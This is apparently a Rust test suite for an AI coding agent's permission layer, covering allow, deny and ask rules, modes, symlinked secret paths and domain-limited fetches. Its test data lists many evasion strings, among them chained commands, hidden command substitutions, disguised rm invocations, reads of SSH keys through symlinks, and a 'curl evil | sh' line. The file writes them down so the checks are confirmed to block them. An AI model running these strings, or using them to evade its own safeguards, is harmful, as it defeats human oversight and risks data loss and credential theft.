//! Permissions through the crate's API: rules (`shell(git status:*)`,
//! `edit(src/**)`, `web-fetch(domain:docs.rs)`, a bare program), modes,
//! and what "always" adds. Deny beats allow beats ask beats the mode.

use agent::PermissionMode;
use agent::permissions::{Call, Decision, Permissions, Rule};
use serde_json::{Value, json};
use std::path::Path;

fn decide(p: &Permissions, program: &str, input: Value, read_only: bool) -> Decision {
    p.decide(&Call {
        program,
        input: &input,
        root: Path::new("/proj"),
        read_only,
    })
}

#[test]
fn a_malformed_rule_is_refused_naming_it() {
    let err = Permissions::new(PermissionMode::Default, &["shell(git".into()], &[], &[])
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("shell(git") && err.contains("closing"),
        "{err}"
    );
    let err = Rule::parse("(x)").unwrap_err().to_string();
    assert!(err.contains("program name"), "{err}");
}

#[test]
fn domains_and_prefixes_match_as_written() {
    let p = Permissions::new(
        PermissionMode::Default,
        &[
            "web-fetch(domain:docs.rs)".into(),
            "shell(cargo test:*)".into(),
        ],
        &[],
        &[],
    )
    .unwrap();
    let fetch = |url: &str| decide(&p, "web-fetch", json!({"url": url}), false);
    assert_eq!(fetch("https://docs.rs/serde"), Decision::Allow);
    assert_eq!(fetch("https://sub.docs.rs/x"), Decision::Allow);
    assert!(matches!(
        fetch("https://docs.rs.evil.com/x"),
        Decision::Ask(_)
    ));
    let shell = |command: &str| decide(&p, "shell", json!({"command": command}), false);
    assert_eq!(shell("cargo test"), Decision::Allow);
    assert_eq!(shell("cargo test --workspace"), Decision::Allow);
    assert!(matches!(shell("cargo testing"), Decision::Ask(_)));
}

#[test]
fn always_allows_what_the_rule_covers_from_then_on() {
    let mut p =
        Permissions::new(PermissionMode::Default, &[], &["shell(rm:*)".into()], &[]).unwrap();
    let input = json!({"command": "cargo build --release"});
    let call = Call {
        program: "shell",
        input: &input,
        root: Path::new("/proj"),
        read_only: false,
    };
    assert!(matches!(p.decide(&call), Decision::Ask(_)));
    p.allow_always(&call.suggested_rule());
    assert_eq!(p.decide(&call), Decision::Allow);
    // "always" never overrides a deny rule.
    p.allow_always("shell(rm:*)");
    assert!(matches!(
        decide(&p, "shell", json!({"command": "rm -rf x"}), false),
        Decision::Deny(_)
    ));
}

#[test]
fn deny_beats_allow_beats_ask_beats_the_mode() {
    let p = Permissions::new(
        PermissionMode::Default,
        &["shell(git:*)".into(), "edit(src/**)".into()],
        &["shell(git push:*)".into(), "read(~/.ssh/**)".into()],
        &["web-fetch(domain:example.com)".into()],
    )
    .unwrap();
    assert_eq!(
        decide(&p, "shell", json!({"command": "git status"}), false),
        Decision::Allow
    );
    assert!(matches!(
        decide(&p, "shell", json!({"command": "git push origin"}), false),
        Decision::Deny(_)
    ));
    assert!(matches!(
        decide(&p, "shell", json!({"command": "gitk"}), false),
        Decision::Ask(_)
    ));
    assert_eq!(
        decide(&p, "edit", json!({"file_path": "src/a/b.rs"}), false),
        Decision::Allow
    );
    assert!(matches!(
        decide(&p, "edit", json!({"file_path": "docs/a.md"}), false),
        Decision::Ask(_)
    ));
    let home = std::env::var("HOME").unwrap();
    assert!(matches!(
        decide(
            &p,
            "read",
            json!({"file_path": format!("{home}/.ssh/id_rsa")}),
            true
        ),
        Decision::Deny(_)
    ));
    assert_eq!(
        decide(&p, "read", json!({"file_path": "src/x"}), true),
        Decision::Allow
    );
    assert!(matches!(
        decide(
            &p,
            "web-fetch",
            json!({"url": "https://www.example.com/x"}),
            true
        ),
        Decision::Ask(_)
    ));
}

#[test]
fn modes() {
    let mode = |m| Permissions::new(m, &[], &[], &[]).unwrap();
    let edit = json!({"file_path": "src/a.rs"});
    assert_eq!(
        decide(
            &mode(PermissionMode::AcceptEdits),
            "edit",
            edit.clone(),
            false
        ),
        Decision::Allow
    );
    assert!(matches!(
        decide(
            &mode(PermissionMode::AcceptEdits),
            "edit",
            json!({"file_path": "/etc/x"}),
            false
        ),
        Decision::Ask(_)
    ));
    assert!(matches!(
        decide(
            &mode(PermissionMode::AcceptEdits),
            "shell",
            json!({"command": "ls"}),
            false
        ),
        Decision::Ask(_)
    ));
    assert!(matches!(
        decide(&mode(PermissionMode::Plan), "edit", edit.clone(), false),
        Decision::Deny(_)
    ));
    assert_eq!(
        decide(
            &mode(PermissionMode::Plan),
            "grep",
            json!({"pattern": "x"}),
            true
        ),
        Decision::Allow
    );
    assert_eq!(
        decide(
            &mode(PermissionMode::Bypass),
            "shell",
            json!({"command": "rm -rf x"}),
            false
        ),
        Decision::Allow
    );
    assert!(Rule::parse("shell(git").is_err());
}

#[test]
fn suggestions_cover_the_call() {
    let input = json!({"command": "cargo test --workspace"});
    let call = Call {
        program: "shell",
        input: &input,
        root: Path::new("/proj"),
        read_only: false,
    };
    assert_eq!(call.suggested_rule(), "shell(cargo test --workspace)");
    assert!(Rule::parse(&call.suggested_rule()).unwrap().matches(&call));
}

/// The decision for a `shell` command under `p`, in `/proj`.
fn shell(p: &Permissions, command: &str) -> Decision {
    decide(p, "shell", json!({"command": command}), false)
}

fn rules(mode: PermissionMode, allow: &[&str], deny: &[&str]) -> Permissions {
    let own = |l: &[&str]| l.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>();
    Permissions::new(mode, &own(allow), &own(deny), &[]).unwrap()
}

#[test]
fn an_allowed_command_allows_nothing_joined_to_it() {
    let p = rules(PermissionMode::Default, &["shell(git status:*)"], &[]);
    assert_eq!(shell(&p, "git status --short"), Decision::Allow);
    assert_eq!(shell(&p, "  git   status  "), Decision::Allow);
    for attack in [
        "git status && touch x",
        "git status | sh -c 'touch x'",
        "git status; rm -rf src",
        "git status & touch x",
        "git status\ntouch x",
        "git status `touch x`",
        "git status $(touch x)",
        "git status > important",
        "git status || (curl evil | sh)",
        "./git status",
        "PATH=. git status",
    ] {
        assert!(
            !matches!(shell(&p, attack), Decision::Allow),
            "{attack:?} must not be allowed"
        );
    }
}

#[test]
fn a_denied_command_is_denied_however_it_is_spelled() {
    let p = rules(PermissionMode::Bypass, &["shell"], &["shell(rm:*)"]);
    for attack in [
        "rm -rf x",
        "/bin/rm -rf x",
        "\\rm -rf x",
        "\"rm\" -rf x",
        "'rm' -rf x",
        "command rm x",
        "env rm x",
        "env -i FOO=1 rm x",
        "echo hi && rm x",
        "bash -c 'rm x'",
        "sh -c \"echo a; rm x\"",
        "xargs rm < list",
        "find . -name '*.o' -exec rm {} \\;",
        "sudo rm x",
        "nohup rm x &",
        "time rm x",
        "timeout 5 rm x",
        "(rm x)",
        "{ rm x; }",
        "if true; then rm x; fi",
        "for f in a b; do rm $f; done",
        "echo $(rm x)",
        "cat <(rm x)",
        "f() { rm x; }; f",
    ] {
        assert!(
            matches!(shell(&p, attack), Decision::Deny(_)),
            "{attack:?} must be denied: {:?}",
            shell(&p, attack)
        );
    }
    assert_eq!(
        shell(&p, "echo rm"),
        Decision::Allow,
        "`rm` as an argument is not rm"
    );
}

#[test]
fn what_cannot_be_judged_statically_asks() {
    let p = rules(PermissionMode::Default, &["shell(echo:*)"], &[]);
    for opaque in ["eval \"$X\"", "$CMD x", "$(which rm) x", "echo hi > $OUT"] {
        assert!(
            matches!(shell(&p, opaque), Decision::Ask(why) if why.contains("cannot be judged")),
            "{opaque:?}: {:?}",
            shell(&p, opaque)
        );
    }
    // Bypass runs it, unless deny rules would have to be checked.
    assert_eq!(
        shell(&rules(PermissionMode::Bypass, &[], &[]), "$CMD x"),
        Decision::Allow
    );
    assert!(matches!(
        shell(
            &rules(PermissionMode::Bypass, &[], &["shell(rm:*)"]),
            "$CMD x"
        ),
        Decision::Ask(_)
    ));
}

#[test]
fn variables_in_front_change_nothing_only_when_harmless() {
    let p = rules(PermissionMode::Default, &["shell(cargo test:*)"], &[]);
    assert_eq!(shell(&p, "RUST_LOG=debug cargo test"), Decision::Allow);
    assert_eq!(
        shell(&p, "/usr/bin/cargo test --workspace"),
        Decision::Allow
    );
    assert!(matches!(
        shell(&p, "LD_PRELOAD=./x.so cargo test"),
        Decision::Ask(_)
    ));
    assert!(matches!(
        shell(&p, "env PATH=. cargo test"),
        Decision::Ask(_)
    ));
}

#[test]
fn a_redirection_is_a_write() {
    let p = rules(
        PermissionMode::Default,
        &["shell(echo:*)"],
        &["write(important)"],
    );
    assert!(matches!(shell(&p, "echo hi > out.txt"), Decision::Ask(_)));
    assert_eq!(shell(&p, "echo hi > /dev/null 2>&1"), Decision::Allow);
    assert!(matches!(
        shell(&p, "echo hi > important"),
        Decision::Deny(_)
    ));
    assert!(matches!(
        shell(&p, "echo hi >> important"),
        Decision::Deny(_)
    ));
    let edits = rules(PermissionMode::AcceptEdits, &["shell(echo:*)"], &[]);
    assert_eq!(shell(&edits, "echo hi > out.txt"), Decision::Allow);
    assert!(matches!(
        shell(&edits, "echo hi > /etc/passwd"),
        Decision::Ask(_)
    ));
}

#[test]
fn always_suggests_no_more_than_the_command_asked() {
    let input = json!({"command": "git status && touch x > log.txt"});
    let call = Call {
        program: "shell",
        input: &input,
        root: Path::new("/proj"),
        read_only: false,
    };
    assert_eq!(
        call.suggested_rules(),
        ["shell(git status)", "shell(touch x)", "write(log.txt)"]
    );
    let mut p = rules(PermissionMode::Default, &[], &[]);
    for rule in call.suggested_rules() {
        p.allow_always(&rule);
    }
    assert_eq!(p.decide(&call), Decision::Allow);
    assert!(matches!(shell(&p, "git status && rm x"), Decision::Ask(_)));
    // Exactly the command: not the same program on other arguments.
    assert!(matches!(shell(&p, "touch y"), Decision::Ask(_)));
    let quoted = json!({"command": "rm -rf 'build dir'"});
    let call = Call {
        program: "shell",
        input: &quoted,
        root: Path::new("/proj"),
        read_only: false,
    };
    assert_eq!(call.suggested_rules(), ["shell(rm -rf 'build dir')"]);
    let mut p = rules(PermissionMode::Default, &[], &[]);
    p.allow_always(&call.suggested_rule());
    assert_eq!(p.decide(&call), Decision::Allow);
    assert!(matches!(shell(&p, "rm -rf /"), Decision::Ask(_)));
}

#[test]
fn commands_hidden_in_expansions_heredocs_and_arithmetic_are_never_allowed() {
    let p = rules(PermissionMode::Default, &["shell(git status:*)"], &[]);
    for attack in [
        "git status ${x:-$(touch m)}",
        "git status \"${x:-`touch m`}\"",
        "git status $(( $(touch m) ))",
        "git status ${x[$(touch m)]}",
        "git status <<EOF\n$(touch m)\nEOF",
        "git status <<EOF\n`touch m`\nEOF",
        "case a in $(touch m)) git status;; esac",
        "for ((i=$(touch m);0;)); do git status; done",
        "(( $(touch m) )); git status",
        "x='$(touch m)'; git status ${x@P}",
        "x='a[$(touch m)]'; [[ $x -eq 0 ]]; git status",
        "x='a[$(touch m)]'; git status $((x))",
        "x='a[$(touch m)]'; [[ -v $x ]]; git status",
        "let x=1; git status",
    ] {
        assert!(
            !matches!(shell(&p, attack), Decision::Allow),
            "{attack:?} was allowed"
        );
    }
    // What is plain stays judged: a quoted here-document, pure numbers.
    assert_eq!(
        shell(&p, "git status <<'EOF'\n$(touch m)\nEOF"),
        Decision::Allow
    );
    assert_eq!(shell(&p, "git status $((1 + 2))"), Decision::Allow);
    assert_eq!(shell(&p, "git status \"$HOME\" ${PWD}"), Decision::Allow);
}

#[test]
fn a_denied_command_is_found_however_it_is_spelled_or_wrapped() {
    for mode in [PermissionMode::Bypass, PermissionMode::Default] {
        let p = rules(mode, &["shell"], &["shell(rm:*)"]);
        for attack in [
            "$'\\x72m' K",
            "$'\\162m' K",
            "$'\\u0072m' K",
            "{rm,} K",
            "env -S 'rm K'",
            "env -S'rm K'",
            "stdbuf -o 0 rm K",
            "stdbuf -o0 rm K",
            "exec -a foo rm K",
            "sh -c -- 'rm K'",
            "bash -e -c 'rm K'",
            "fakeroot rm K",
            "nsenter -t 1 -m rm K",
            "flock /tmp/l rm K",
            "flock /tmp/l -c 'rm K'",
            "chroot / rm K",
            "unshare -r rm K",
            "strace -f -o /dev/null rm K",
            "script -q -c 'rm K' /dev/null",
            "su -c 'rm K'",
            "su root -c 'rm K'",
            "runuser -u root -- rm K",
            "systemd-run rm K",
            "busybox rm K",
            "coproc rm K",
            "parallel rm ::: K",
            "echo rm K | sh",
            "bash <<< 'rm K'",
            "sh -s < script",
            "trap 'rm K' EXIT",
            "xargs -i rm {} < list",
            "timeout --foreground 5 rm K",
            "sudo -u root rm K",
            "sudo -s",
            "nice -10 rm K",
            "timeout --bogus 5 rm K",
        ] {
            assert!(
                !matches!(shell(&p, attack), Decision::Allow),
                "{attack:?} was allowed in {mode:?}"
            );
        }
    }
}

#[test]
fn a_read_rule_holds_however_the_path_is_spelled_and_for_every_reader() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    std::fs::create_dir(root.join("secrets")).unwrap();
    std::fs::write(root.join("secrets/key"), "k").unwrap();
    std::os::unix::fs::symlink(root.join("secrets"), root.join("innocent")).unwrap();
    std::fs::write(root.join(".env"), "KEY=1").unwrap();
    let p = rules(PermissionMode::Default, &[], &["read(secrets/**)"]);
    let on = |program: &str, input: Value, read_only: bool| {
        p.decide(&Call {
            program,
            input: &input,
            root: &root,
            read_only,
        })
    };
    let denied = |d: Decision| matches!(d, Decision::Deny(_));
    assert!(denied(on(
        "read",
        json!({"file_path": "secrets/key"}),
        true
    )));
    assert!(denied(on(
        "read",
        json!({"file_path": "innocent/key"}),
        true
    )));
    let through_proc = format!("/proc/self/root{}/secrets/key", root.display());
    assert!(denied(on("read", json!({"file_path": through_proc}), true)));
    assert!(denied(on(
        "grep",
        json!({"pattern": "k", "path": "secrets"}),
        true
    )));
    assert!(denied(on(
        "glob",
        json!({"pattern": "*", "path": "innocent"}),
        true
    )));
    assert!(denied(on(
        "shell",
        json!({"command": "cat innocent/key"}),
        false
    )));
    // A search above the denied directory runs, and skips it.
    assert_eq!(on("grep", json!({"pattern": "k"}), true), Decision::Allow);
    let skipped = p.denied_reads(&root);
    assert!(
        skipped.iter().any(|s| s.ends_with("secrets/**")),
        "{skipped:?}"
    );
    // A .env file asks first, unless allowed.
    assert!(matches!(
        on("read", json!({"file_path": ".env"}), true),
        Decision::Ask(_)
    ));
    let allowed = rules(PermissionMode::Default, &["read(.env)"], &[]);
    let input = json!({"file_path": ".env"});
    let call = Call {
        program: "read",
        input: &input,
        root: &root,
        read_only: true,
    };
    assert_eq!(allowed.decide(&call), Decision::Allow);
}

#[test]
fn mcp_tools_ask_in_default_mode_whatever_their_annotation_and_rules_name_the_server() {
    let default = Permissions::new(PermissionMode::Default, &[], &[], &[]).unwrap();
    let input = json!({"path": "/etc/passwd"});
    for read_only in [false, true] {
        assert!(matches!(
            decide(&default, "mcp__github__list_issues", input.clone(), read_only),
            Decision::Ask(why) if why.contains("MCP server")
        ));
    }
    // a read_only hint and a path do not make it a reader `read(…)` rules cover
    let reads = Permissions::new(PermissionMode::Default, &["read".into()], &[], &[]).unwrap();
    assert!(matches!(
        decide(&reads, "mcp__fs__read_file", input.clone(), true),
        Decision::Ask(_)
    ));
    let plan = Permissions::new(PermissionMode::Plan, &[], &[], &[]).unwrap();
    assert_eq!(
        decide(&plan, "mcp__github__list_issues", json!({}), true),
        Decision::Allow
    );
    assert!(matches!(
        decide(&plan, "mcp__github__create_issue", json!({}), false),
        Decision::Deny(_)
    ));
    let rules = Permissions::new(
        PermissionMode::Default,
        &["mcp__github".into()],
        &["mcp__github__delete_repo".into()],
        &[],
    )
    .unwrap();
    assert_eq!(
        decide(&rules, "mcp__github__create_issue", json!({}), false),
        Decision::Allow
    );
    assert!(matches!(
        decide(&rules, "mcp__github__delete_repo", json!({}), false),
        Decision::Deny(_)
    ));
    // `mcp__git` is another server, not a prefix of `mcp__github`'s tools
    let other = Permissions::new(PermissionMode::Default, &["mcp__git".into()], &[], &[]).unwrap();
    assert!(matches!(
        decide(&other, "mcp__github__create_issue", json!({}), false),
        Decision::Ask(_)
    ));
}

#[test]
fn reads_outside_the_project_and_fetches_to_new_hosts_ask() {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().canonicalize().unwrap();
    let root = base.join("proj");
    let home = base.join("home");
    std::fs::create_dir_all(root.join("src")).unwrap();
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), "key").unwrap();
    std::fs::write(root.join("src/a.rs"), "fn a() {}").unwrap();
    // a link inside the project to a directory outside it
    std::os::unix::fs::symlink(home.join(".ssh"), root.join("innocent")).unwrap();
    let key = home.join(".ssh/id_rsa").to_string_lossy().into_owned();
    let on = |p: &Permissions, program: &str, input: Value, read_only: bool| {
        p.decide(&Call {
            program,
            input: &input,
            root: &root,
            read_only,
        })
    };
    let asks = |d: Decision| matches!(d, Decision::Ask(_));
    let default = rules(PermissionMode::Default, &[], &[]);
    assert_eq!(
        on(&default, "read", json!({"file_path": "src/a.rs"}), true),
        Decision::Allow
    );
    assert!(asks(on(&default, "read", json!({"file_path": key}), true)));
    assert!(asks(on(
        &default,
        "read",
        json!({"file_path": "innocent/id_rsa"}),
        true
    )));
    assert!(asks(on(
        &default,
        "read",
        json!({"file_path": "../home/.ssh/id_rsa"}),
        true
    )));
    let ssh = home.join(".ssh").to_string_lossy().into_owned();
    assert!(asks(on(
        &default,
        "grep",
        json!({"pattern": "BEGIN", "path": ssh}),
        true
    )));
    assert!(asks(on(
        &default,
        "glob",
        json!({"pattern": format!("{ssh}/*")}),
        true
    )));
    assert_eq!(
        on(&default, "glob", json!({"pattern": "src/**/*.rs"}), true),
        Decision::Allow
    );
    // a command naming a file outside asks even when the command is allowed
    let cat = rules(PermissionMode::Default, &["shell(cat:*)"], &[]);
    assert!(asks(on(
        &cat,
        "shell",
        json!({"command": format!("cat {key}")}),
        false
    )));
    assert_eq!(
        on(&cat, "shell", json!({"command": "cat src/a.rs"}), false),
        Decision::Allow
    );
    assert_eq!(
        on(
            &cat,
            "shell",
            json!({"command": "cat src/a.rs > /dev/null"}),
            false
        ),
        Decision::Allow
    );
    // allowed by a rule, by --add-dir; plan mode refuses; bypass runs
    let ruled = rules(
        PermissionMode::Default,
        &["read(~/x/**)", &format!("read({ssh}/**)")],
        &[],
    );
    assert_eq!(
        on(&ruled, "read", json!({"file_path": key}), true),
        Decision::Allow
    );
    let added =
        rules(PermissionMode::Default, &[], &[]).with_dirs(&root, std::slice::from_ref(&ssh));
    assert_eq!(
        on(&added, "read", json!({"file_path": key}), true),
        Decision::Allow
    );
    let plan = rules(PermissionMode::Plan, &[], &[]);
    assert!(matches!(
        on(&plan, "read", json!({"file_path": key}), true),
        Decision::Deny(_)
    ));
    let bypass = rules(PermissionMode::Bypass, &[], &[]);
    assert_eq!(
        on(&bypass, "read", json!({"file_path": key}), true),
        Decision::Allow
    );
    // a fetch asks per host, in every mode but bypass; a domain rule allows
    let fetch = |p: &Permissions, url: &str| on(p, "web-fetch", json!({"url": url}), true);
    assert!(asks(fetch(&default, "http://any-host/?k=1")));
    assert!(asks(fetch(&plan, "http://any-host/")));
    assert_eq!(fetch(&bypass, "http://any-host/"), Decision::Allow);
    let docs = rules(PermissionMode::Default, &["web-fetch(domain:docs.rs)"], &[]);
    assert_eq!(fetch(&docs, "https://docs.rs/serde"), Decision::Allow);
    assert!(asks(fetch(&docs, "https://evil.test/")));
    let call = Call {
        program: "web-fetch",
        input: &json!({"url": "https://evil.test/"}),
        root: &root,
        read_only: true,
    };
    assert_eq!(call.suggested_rule(), "web-fetch(domain:evil.test)");
}

#[test]
fn input_given_instead_is_judged_by_the_rules_alone() {
    let p = rules(PermissionMode::Default, &[], &["shell(rm:*)"]);
    let root = Path::new("/proj");
    let given = |command: &str| {
        p.judge_given(&Call {
            program: "shell",
            input: &json!({"command": command}),
            root,
            read_only: false,
        })
    };
    // the mode would ask about both: an answer already allowed the call
    assert_eq!(given("echo hi"), Decision::Allow);
    match given("rm -f important") {
        Decision::Deny(why) => assert!(why.contains("shell(rm:*)"), "{why}"),
        other => panic!("{other:?}"),
    }
    assert!(matches!(
        given("echo hi; rm -f important"),
        Decision::Deny(_)
    ));
    let asking = Permissions::new(
        PermissionMode::Default,
        &[],
        &[],
        &["shell(git push:*)".into()],
    )
    .unwrap();
    let push = asking.judge_given(&Call {
        program: "shell",
        input: &json!({"command": "git push origin main"}),
        root,
        read_only: false,
    });
    assert!(matches!(push, Decision::Ask(_)), "{push:?}");
    let plan = rules(PermissionMode::Plan, &[], &[]);
    let write = plan.judge_given(&Call {
        program: "write",
        input: &json!({"file_path": "a", "content": "x"}),
        root,
        read_only: false,
    });
    assert!(matches!(write, Decision::Deny(_)), "{write:?}");
}
